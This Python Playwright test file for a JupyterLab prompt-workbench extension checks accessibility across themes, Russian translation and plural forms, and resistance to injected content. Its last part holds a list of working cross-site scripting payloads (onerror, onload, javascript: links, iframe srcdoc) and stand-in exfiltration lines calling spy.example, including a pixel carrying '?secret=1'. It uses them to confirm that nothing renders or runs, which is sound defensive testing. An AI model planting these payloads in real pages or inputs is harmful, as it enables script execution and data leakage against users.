"""Every screen: accessible in all themes, Russian to the last word, harmless whatever it shows."""

from __future__ import annotations

import itertools
import json
import re
from pathlib import Path

import pytest
from lab_browser import THEMES, change_theme
from playwright.sync_api import expect
from screens import UNBROKEN, Walk, World, world

CATALOGUE = (
    Path(__file__).parents[2] / "promptyflow_lab/locale/ru_RU/LC_MESSAGES/promptyflow_lab.json"
)
AXE = Path(__file__).parents[1] / "node_modules/axe-core/axe.min.js"

# A walk cuts the network, lets changes get into each other's way, looks for what was deleted
# meanwhile, and takes in a file that is none of ours.
EXPECTED = "ERR_INTERNET_DISCONNECTED|status of 409|404.*/items/|400.*/import"

# What JupyterLab draws above our screens, and CodeMirror inside of them, is theirs.
FINDINGS = """async ([rules]) => {
    const options = {
        resultTypes: ['violations'],
        ...(rules ? { runOnly: { type: 'rule', values: rules } } : {})
    };
    const shown = '.pf-Shell:not(.lm-mod-hidden), .pf-Widget, .pf-StatusItem, dialog[open],'
        + '.pf-Popover, .pf-Menu, .pf-Tour, .jp-Dialog';
    const roots = [...document.querySelectorAll(shown)].filter(root => root.checkVisibility());
    const { violations } = await axe.run({ include: roots }, options);
    return violations
        .filter(({ impact }) => impact === 'serious' || impact === 'critical')
        .flatMap(({ id, nodes }) => nodes.map(node =>
            `${id}: ${node.html.slice(0, 160)} ${node.any[0]?.message ?? node.failureSummary}`));
}"""


MAKERS = {"OpenAI", "Anthropic", "Anthropic Claude", "Google Gemini", "xAI", "xAI Grok"}
MAKERS |= {"OpenRouter", "Ollama"}
# What the emulator lists.
MODELS = {"gpt-4", "gpt-4o", "claude-3-5-sonnet-20241022", "gemini-2.0-flash"}
MODELS |= {"text-embedding-3-small"}


# What is read or heard of the workbench: not what people type, nor names of models and makers.
WORDS = """root => {
    const people = '.cm-editor, .jp-RenderedMarkdown, kbd, .pf-ModelList, option, optgroup,'
        + '.pf-Row-title, .lm-CommandPalette-itemShortcut, .lm-Menu-itemShortcut,'
        + '.pf-Tile-title, .pf-TileHead-title, .pf-Variable-name, pre, .pf-Answer-facts,'
        + '.pf-Diff-name, .pf-Table-name, .pf-Picked, [data-testid=pf-provider-models]';
    const words = [];
    for (const element of [root, ...root.querySelectorAll('*')]) {
        for (const name of ['aria-label', 'title', 'placeholder']) {
            const value = element.getAttribute(name);
            const theirs = element.closest('.pf-ModelList li') || value === element.textContent;
            words.push(theirs ? null : value);
        }
        if (!element.closest(people)) {
            for (const node of element.childNodes) {
                words.push(node.nodeType === Node.TEXT_NODE ? node.data : null);
            }
        }
    }
    return words.filter(Boolean).map(text => text.trim()).filter(Boolean);
}"""


# What is used by mouse and cannot be reached by keys: neither by Tab, nor by arrows from a place
# that Tab leads to. The buttons of a row are in its menu, which has a key.
UNREACHABLE = """root => {
    const used = 'button, a[href], input, select, textarea, summary, [role=button], [role=tab],'
        + '[role=option], [role=treeitem], [role=separator], [role=switch], [role=menuitem]';
    const groups = '[role=tree], [role=listbox], [role=tablist], [role=menu], [role=radiogroup]';
    return [...root.querySelectorAll(used)].filter(element => {
        const group = element.closest(groups);
        return element.checkVisibility() && !element.disabled && element.tabIndex < 0
            && !element.closest('.pf-Row-actions, .cm-editor, .lm-Menu')
            && !(group?.id && root.querySelector(`[aria-controls="${group.id}"]`))
            && !(group && (group.tabIndex >= 0 || group.querySelector('[tabindex="0"]')));
    }).map(element => element.outerHTML.slice(0, 160));
}"""


@pytest.fixture
def no_projects(api):
    """Delete what other tests left: the walk begins as a newcomer does."""
    for other in api.call("GET", "api/projects?limit=200")["items"]:
        api.call("DELETE", f"api/projects/{other['id']}")
    for template in api.call("GET", "api/templates?limit=200")["items"]:
        api.call("DELETE", f"api/templates/{template['id']}")
    api.disconnect()
    yield
    with api.jupyter.http() as http:
        for session in http.get("api/sessions").json():
            http.delete(f"api/sessions/{session['id']}").raise_for_status()


@pytest.mark.slow
@pytest.mark.timeout(400)
@pytest.mark.usefixtures("no_projects", "theme")
def test_no_screen_has_a_serious_finding_in_any_theme_and_keys_reach_all(person, api, emulator):
    person.watch.expect(EXPECTED)
    # JupyterLab's own: the splash of a change of themes goes while the next one comes.
    person.watch.expect("Failed to execute 'removeChild'")
    walk = Walk(person, api, emulator, world("en"))
    walk.page.add_script_tag(path=AXE)
    found, seen, themes = {}, [], list(THEMES)
    for screen in walk.screens():
        seen.append(screen)
        if not walk.page.evaluate("'axe' in window"):
            walk.page.add_script_tag(path=AXE)
        for number, theme in enumerate(themes):
            change_theme(walk.page, theme)
            rules = None if number == 0 else ["color-contrast"]
            for finding in walk.page.evaluate(FINDINGS, [rules]):
                found.setdefault(finding, f"{screen}, {theme}")
        for root in walk.shown():
            if root in walk.beside:
                continue  # JupyterLab leads to it
            for element in root.evaluate(UNREACHABLE):
                found.setdefault(f"no key leads to {element}", screen)
        themes.reverse()  # the next screen begins in the theme that is there
    assert not found, json.dumps(found, indent=1)
    assert len(seen) > 80


def untranslated(words):
    """Return those that are a message of ours in English, or that hold no Russian word."""
    messages = json.loads(CATALOGUE.read_text(encoding="utf-8"))
    english = [
        re.compile("^" + re.sub(r"%\d", ".*", re.escape(message)) + "$")
        for message, translated in messages.items()
        if message and message != translated[0] and re.search("[A-Za-z]", message)
    ]
    return sorted(
        {
            text
            for text in words
            if not re.search("https?://|localhost", text)
            if any(one.match(text) for one in english)
            or (re.search("[A-Za-z]{3}", text) and not re.search("[А-Яа-яЁё]", text))
        }
        - {"PromptyFlow", "English", "Top-p", UNBROKEN, *MAKERS, *MODELS}
        - {f"openai-compatible · {model}" for model in MODELS}
        - {"AIza…", "sk-ant-…", "xai-…"}  # how the keys of providers begin
    )


@pytest.mark.slow
@pytest.mark.timeout(400)
@pytest.mark.usefixtures("no_projects", "russian")
def test_no_screen_has_a_word_of_ours_in_english_and_plurals_are_right(person, api, emulator):
    person.watch.expect(EXPECTED)
    walk = Walk(person, api, emulator, world("ru"))
    words = walk.page.locator('li[data-id="promptyflow-panel"]').evaluate(WORDS)
    english = {}
    for screen in walk.screens():
        person.picture(walk.page, f"russian-{screen}")
        found = [word for root in walk.shown() for word in root.evaluate(WORDS)]
        assert found, screen
        words += found
        for word in untranslated(found):
            english.setdefault(word, screen)
    assert len(words) > 5000
    assert not english, json.dumps(english, indent=1, ensure_ascii=False)

    for count in (1, 2, 5, 21):
        blocks = [{"id": n, "title": f"Блок {n}", "items": []} for n in range(1, count + 1)]
        prompts = [{"id": n, "title": f"Промпт {n}"} for n in range(1, count + 1)]
        api.make(f"По {count}", {"contextBlocks": blocks, "promptBlocks": prompts})
    walk.at("pf-project-switch").click()
    for told in (
        "1 блок · 1 промпт",
        "2 блока · 2 промпта",
        "5 блоков · 5 промптов",
        "21 блок · 21 промпт",
    ):
        expect(walk.at("pf-project-row").filter(has_text=told)).to_be_visible()


# What would run, or ask another host, if any title or text were taken for more than text.
PAYLOADS = [
    "<img src=x onerror=window.hacked='img'>",
    "<svg onload=window.hacked='svg'>",
    "<script>window.hacked='script'</script>",
    "<iframe srcdoc=\"<script>top.hacked='frame'</script>\"></iframe>",
    "</title></textarea><script>window.hacked='closing'</script>",
    "[link](javascript:window.hacked='link')",
    "![spy](https://spy.example/title.png?q=1)",
    "<a href=\"javascript:window.hacked='a'\">a</a>",
    "<details open ontoggle=window.hacked='toggle'>",
    "<style>@import 'https://spy.example/x.css';</style>",
    "'\"><input autofocus onfocus=window.hacked='focus'>",
]
HOSTILE_ANSWER = "\n\n".join(
    [
        "# The beginning",
        *PAYLOADS,
        "<img src='https://spy.example/2.png'> ![spy](https://spy.example/pixel.png?secret=1)",
        '<div style="background: url(https://spy.example/3.png)">styled</div>',
        "<form action='https://spy.example/'><button>Send</button></form>",
        "<link rel=stylesheet href='https://spy.example/y.css'><base href='https://spy.example/'>",
        "<object data='https://spy.example/'></object><embed src='https://spy.example/'>",
        "<video src='https://spy.example/v.mp4' autoplay></video>",
        "$\\href{javascript:window.hacked='math'}{x}$",
        "The end.",
    ]
)


def hostile_world():
    """Return a world whose every word is an attack."""
    attack = itertools.cycle(PAYLOADS)

    def node(number, subs=0):
        found = {"id": number, "title": next(attack), "content": "\n\n".join(PAYLOADS)}
        return {**found, "subItems": [node(n) for n in range(1, subs + 1)]} if subs else found

    blocks = [
        {"id": n, "title": next(attack), "items": [node(1), node(2, subs=2)]} for n in range(1, 5)
    ]
    blocks.append({"id": 9, "title": next(attack), "items": []})
    prompts = [
        {
            "id": n,
            "title": f"Attack {payload}",
            "template": f"Attack {{{{context}}}} {{{{{payload[:60]}}}}} {payload}",
            "selectedContext": [{"blockId": n, "itemId": 1, "order": 1}],
        }
        for n, payload in enumerate(PAYLOADS[:3], start=1)
    ]
    data = {"contextBlocks": blocks, "promptBlocks": prompts}
    return World(
        language="en",
        name=next(attack),
        data=data,
        asks="Attack",
        answer=HOSTILE_ANSWER,
        word="spy",
        template_word="Attack",
        file=PAYLOADS[0],
        refusal=" ".join(PAYLOADS),
        models=("gpt-4o", "gpt-4", *PAYLOADS),
    )


@pytest.mark.slow
@pytest.mark.timeout(400)
@pytest.mark.usefixtures("no_projects")
def test_nothing_on_any_screen_runs_or_asks_another_host(person, api, emulator):
    person.watch.expect(EXPECTED)
    walk = Walk(person, api, emulator, hostile_world())
    page = walk.page
    for screen in walk.screens():
        assert page.evaluate("window.hacked") is None, screen
        if screen in {"answer", "wide-answer"}:
            answer = walk.at("pf-answer-text")
            expect(answer).to_contain_text("The end.")
            links = answer.locator("a").evaluate_all("links => links.map(link => link.href)")
            assert not [link for link in links if link.startswith("javascript:")]
            assert answer.locator("script, iframe, form, object, embed, style, link").count() == 0
